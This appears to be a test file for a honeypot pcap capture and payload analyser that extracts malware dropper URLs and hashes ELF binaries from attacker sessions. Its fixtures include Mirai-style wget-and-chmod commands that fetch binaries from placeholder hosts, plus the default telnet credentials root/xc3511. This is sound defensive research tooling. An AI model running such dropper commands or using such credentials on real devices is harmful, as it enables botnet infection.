"""Tests for the pcap capture and payload analysis."""

import hashlib

import pytest
from hypothesis import given, strategies as st

from repro.honeypots.base import SessionTranscript
from repro.honeypots.deployment import build_deployment
from repro.honeypots.pcap import (
    PCAP_MAGIC,
    PcapCapture,
    PcapWriter,
    analyze_payloads,
    read_pcap,
)
from repro.net.errors import ProtocolError
from repro.net.ipv4 import ip_to_int
from repro.protocols.base import ProtocolId

HONEYPOT = ip_to_int("130.225.52.15")
ATTACKER = ip_to_int("5.6.7.8")


class TestPcapFormat:
    def test_global_header_magic(self):
        writer = PcapWriter()
        data = writer.getvalue()
        assert int.from_bytes(data[:4], "little") == PCAP_MAGIC
        assert len(data) == 24  # empty capture: header only

    def test_packet_round_trip(self):
        writer = PcapWriter()
        writer.add_packet(12.5, ATTACKER, HONEYPOT, 31_337, 23, b"root\r\n")
        packets = list(read_pcap(writer.getvalue()))
        assert len(packets) == 1
        packet = packets[0]
        assert packet.src == ATTACKER
        assert packet.dst == HONEYPOT
        assert (packet.src_port, packet.dst_port) == (31_337, 23)
        assert packet.payload == b"root\r\n"
        assert packet.timestamp == pytest.approx(12.5, abs=1e-5)

    @given(st.binary(max_size=256),
           st.integers(min_value=0, max_value=0xFFFFFFFF),
           st.integers(min_value=0, max_value=0xFFFFFFFF),
           st.integers(min_value=0, max_value=65_535),
           st.integers(min_value=0, max_value=65_535))
    def test_round_trip_property(self, payload, src, dst, sport, dport):
        writer = PcapWriter()
        writer.add_packet(1.0, src, dst, sport, dport, payload)
        packet = next(iter(read_pcap(writer.getvalue())))
        assert (packet.src, packet.dst) == (src, dst)
        assert (packet.src_port, packet.dst_port) == (sport, dport)
        assert packet.payload == payload

    def test_bad_magic_rejected(self):
        with pytest.raises(ProtocolError):
            list(read_pcap(b"\x00" * 40))

    def test_short_file_rejected(self):
        with pytest.raises(ProtocolError):
            list(read_pcap(b"\x00" * 5))

    def test_transcript_serialization(self):
        transcript = SessionTranscript(
            protocol=ProtocolId.TELNET, port=23, source=ATTACKER,
            banner=b"login: ",
            exchanges=[(b"root", b"Password: "), (b"xc3511", b"$ ")],
        )
        writer = PcapWriter()
        writer.add_transcript(transcript, HONEYPOT, 100.0)
        packets = list(read_pcap(writer.getvalue()))
        # banner + 2x(request, reply) = 5 packets
        assert len(packets) == 5
        directions = [(p.src, p.dst) for p in packets]
        assert directions[0] == (HONEYPOT, ATTACKER)  # banner
        assert directions[1] == (ATTACKER, HONEYPOT)  # first request
        # Monotonic timestamps.
        times = [p.timestamp for p in packets]
        assert times == sorted(times)


class TestPayloadAnalysis:
    def _capture_with(self, payloads):
        transcript = SessionTranscript(
            protocol=ProtocolId.TELNET, port=23, source=ATTACKER,
            exchanges=[(payload, b"$ ") for payload in payloads],
        )
        capture = PcapCapture(HONEYPOT)
        capture.record(transcript, 50.0)
        return capture

    def test_dropper_url_extracted(self):
        capture = self._capture_with(
            [b"wget http://198.51.100.7/mirai.arm7 -O /tmp/m; chmod +x /tmp/m"]
        )
        findings = analyze_payloads(
            read_pcap(capture.pcap_bytes()), HONEYPOT
        )
        urls = [f.value for f in findings if f.kind == "dropper-url"]
        assert urls == ["http://198.51.100.7/mirai.arm7"]
        assert findings[0].source == ATTACKER

    def test_binary_carved_and_hashed(self):
        blob = b"\x7fELF\x01\x02\x03\x04malware-body"
        capture = self._capture_with([b"STOR x\n" + blob])
        findings = analyze_payloads(
            read_pcap(capture.pcap_bytes()), HONEYPOT
        )
        binaries = [f for f in findings if f.kind == "binary"]
        assert len(binaries) == 1
        expected = hashlib.sha256(blob[blob.find(b"\x7fELF"):]).hexdigest()
        assert binaries[0].value == expected

    def test_honeypot_replies_not_scanned(self):
        """Only attacker→honeypot payloads are analysed."""
        transcript = SessionTranscript(
            protocol=ProtocolId.TELNET, port=23, source=ATTACKER,
            exchanges=[(b"ls", b"wget http://x/y.bin")],  # reply, not request
        )
        capture = PcapCapture(HONEYPOT)
        capture.record(transcript, 1.0)
        findings = analyze_payloads(read_pcap(capture.pcap_bytes()), HONEYPOT)
        assert findings == []

    def test_duplicates_deduplicated(self):
        capture = self._capture_with(
            [b"wget http://h/a.bin", b"wget http://h/a.bin"]
        )
        findings = analyze_payloads(read_pcap(capture.pcap_bytes()), HONEYPOT)
        assert len(findings) == 1


class TestEndToEndCapture:
    def test_honeypot_pcap_integration(self):
        """A dropper session against Cowrie ends up in its pcap with the
        malware URL recoverable — the §5.1.1 pipeline."""
        cowrie = build_deployment().get("Cowrie")
        cowrie.enable_pcap()
        port = cowrie.ports_for(ProtocolId.TELNET)[0]
        server = cowrie.services[port]
        session = server.open_session(peer=ATTACKER)
        transcript = SessionTranscript(
            protocol=ProtocolId.TELNET, port=port, source=ATTACKER,
            banner=server.accept(session),
        )
        for payload in (b"root", b"xc3511",
                        b"wget http://203.0.113.9/mirai.arm7 -O /tmp/m"):
            transcript.exchanges.append(
                (payload, server.handle(payload, session).data)
            )
        cowrie.pcap.record(transcript, 2 * 86_400.0)
        findings = analyze_payloads(
            read_pcap(cowrie.pcap.pcap_bytes()), cowrie.address
        )
        urls = [f.value for f in findings if f.kind == "dropper-url"]
        assert "http://203.0.113.9/mirai.arm7" in urls
